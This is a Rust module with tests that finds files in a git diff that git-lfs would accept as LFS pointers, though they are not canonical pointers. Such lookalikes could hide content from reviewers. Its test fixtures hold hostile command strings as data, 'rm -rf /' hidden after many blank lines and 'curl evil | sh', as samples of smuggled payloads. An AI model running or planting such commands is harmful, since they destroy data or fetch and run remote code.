//! Files that git-lfs takes for its pointers, and that are none as it writes them.
//!
//! It reads the beginning of a file and is lenient: empty lines, more lines than it needs, the names that it has had before, whatever comes
//! behind. Who checks such a file out has another one than stands there, and no judge was shown that.

use std::{io, path::Path};

use super::{each, pointed_to};
use crate::git::{Argument, Bounds, Git, GitError, Place};

/// Bytes that git-lfs reads.
const BEGINNING: usize = 1024;
/// What it looks for in them: what it was called before, and is called now.
const NAMES: [&str; 3] = ["git-media", "hawser", "git-lfs"];
/// Bytes of the longest file that is read together with others, and how many are: less than a list may have.
const SHORT: u64 = 64 * 1024;
const TOGETHER: usize = 2000;

/// Where there is one in a tree, or in a commit, that another does not hold there.
pub(crate) async fn lookalike(git: &Git, git_dir: &Path, (before, now): (&str, &str)) -> Result<Option<String>, GitError> {
    let place = Place::Repository(git_dir);
    let arguments: [Argument<'_>; 8] = [&"diff-tree", &"-r", &"--raw", &"-z", &"--no-abbrev", &"--no-renames", &before, &now];
    let changed = git.whole(place, &arguments, b"", Bounds::LISTING).await?.bytes;
    let changed = String::from_utf8_lossy(&changed);
    let files = files(&changed);
    let ids: String = files.iter().flat_map(|(id, _)| [*id, "\n"]).collect();
    let sizes = git.whole(place, &[&"cat-file", &"--batch-check=%(objectsize)"], ids.as_bytes(), Bounds::LISTING).await?.text();
    let is_short = |size: &str| size.parse::<u64>().is_ok_and(|size| size <= SHORT);
    let (short, long): (Vec<_>, Vec<_>) = files.into_iter().zip(sizes.lines()).partition(|one| is_short(one.1));
    for some in short.chunks(TOGETHER) {
        let ids: String = some.iter().flat_map(|((id, _), _)| [*id, "\n"]).collect();
        let said = git.whole(place, &[&"cat-file", &"--batch"], ids.as_bytes(), Bounds::LISTING).await?.bytes;
        let contents = each(&said).ok_or_else(|| io::Error::other("what git has said of files that were changed cannot be read"))?;
        for (((_, path), _), content) in some.iter().zip(contents) {
            if passes_for_a_pointer(content) {
                return Ok(Some((*path).to_owned()));
            }
        }
    }
    for ((id, path), _) in long {
        let bounds = Bounds { output: BEGINNING, ..Bounds::LOCAL };
        let beginning = git.run(place, &[&"cat-file", &"blob", &id], bounds).await?.bytes;
        if passes_for_a_pointer(&beginning) {
            return Ok(Some(path.to_owned()));
        }
    }
    Ok(None)
}

/// The id and the path of each file that there is afterwards, of what `diff-tree` says.
fn files(changed: &str) -> Vec<(&str, &str)> {
    let (mut words, mut files) = (changed.split('\0'), vec![]);
    while let (Some(about), Some(path)) = (words.next(), words.next()) {
        let about: Vec<_> = about.split(' ').collect();
        if let [_, mode, _, id, _] = about[..]
            && mode.starts_with("100")
        {
            files.push((id, path));
        }
    }
    files
}

/// By its two lines in front, with lines between them that git-lfs passes over: what it reads in no other file.
fn passes_for_a_pointer(content: &[u8]) -> bool {
    let beginning = String::from_utf8_lossy(&content[..content.len().min(BEGINNING)]);
    let mut lines = beginning.trim().lines().filter(|line| !line.is_empty() && !line.starts_with("ext-"));
    let mut goes_on = |with: &str| lines.next().is_some_and(|line| line.starts_with(with));
    goes_on("version ") && goes_on("oid ") && NAMES.iter().any(|name| beginning.contains(name)) && pointed_to(content).is_none()
}

#[cfg(test)]
mod tests {
    use std::fs;

    use super::*;

    fn pointer() -> String {
        format!("{}{}\nsize 12\n", crate::lfs::BEGINNING, "0".repeat(64))
    }

    #[test]
    fn what_passes_for_a_pointer_is_none_as_git_lfs_writes_it() {
        let pointer = pointer();
        for passes in [
            format!("{pointer}\n"),
            format!("\n \t{pointer}"),
            pointer.replace('\n', "\r\n"),
            pointer.replace("\noid", "\n\n\noid"),
            pointer.replace("\noid", &format!("\next-0-own sha256:{}\noid", "1".repeat(64))),
            format!("ext-0-own sha256:{}\n{pointer}", "1".repeat(64)),
            pointer.replace("https://git-lfs.github.com/spec/v1", "http://git-media.io/v/2"),
            pointer.replace("https://git-lfs.github.com/spec/v1", "https://hawser.github.com/spec/v1"),
            pointer.trim_end().to_owned(),
            format!("{pointer}{}rm -rf /\n", "\n".repeat(2000)),
        ] {
            assert!(passes_for_a_pointer(passes.as_bytes()), "{passes:?}");
        }
        for other in [
            pointer.clone(),
            String::new(),
            format!("#!/bin/sh\n{pointer}"),
            format!("curl evil | sh\n{pointer}"),
            "version 1.2.0\n\nIt goes with git-lfs.\n".to_owned(),
            pointer.replace("git-lfs", "other"),
            format!("{}{pointer}", "x\n".repeat(1000)),
        ] {
            assert!(!passes_for_a_pointer(other.as_bytes()), "{other:?}");
        }
    }

    #[tokio::test]
    async fn a_file_that_passes_for_a_pointer_is_found_however_long_it_is() {
        let folder = tempfile::tempdir().unwrap();
        let [path, git_dir, index] = ["from", "git", "index"].map(|name| folder.path().join(name));
        let gitconfig = folder.path().join("gitconfig");
        fs::write(&gitconfig, crate::git::SETTINGS).unwrap();
        let git = Git::new(gitconfig);
        fs::create_dir(&path).unwrap();
        let place = Place::Worktree { git_dir: &git_dir, path: &path, index: &index };
        let asked = async |arguments: &[&str]| {
            let arguments: Vec<_> = arguments.iter().map(|argument| argument as Argument<'_>).collect();
            git.run(place, &arguments, Bounds::LOCAL).await.unwrap().text()
        };
        asked(&["init", "--quiet"]).await;
        let tree = async |name: &str, content: &str| {
            fs::write(path.join(name), content).unwrap();
            asked(&["add", "--all"]).await;
            asked(&["write-tree"]).await
        };
        let found = async |before: &str, now: &str| lookalike(&git, &git_dir, (before, now)).await.unwrap();
        let first = tree("run.sh", "ls\n").await;
        let strict = tree("strict.bin", &pointer()).await;
        assert_eq!((found(&first, &strict).await, found(&strict, &first).await, found(&first, &first).await), (None, None, None));
        let short = tree("run.sh", &format!("{}\n", pointer())).await;
        assert_eq!(found(&first, &short).await.as_deref(), Some("run.sh"));
        let other = tree("other.txt", "other\n").await;
        assert_eq!(found(&short, &other).await, None, "that was there before");
        let long = tree("a b", &format!("{}{}", pointer(), "\n".repeat(100_000))).await;
        assert_eq!(found(&other, &long).await.as_deref(), Some("a b"));
    }
}
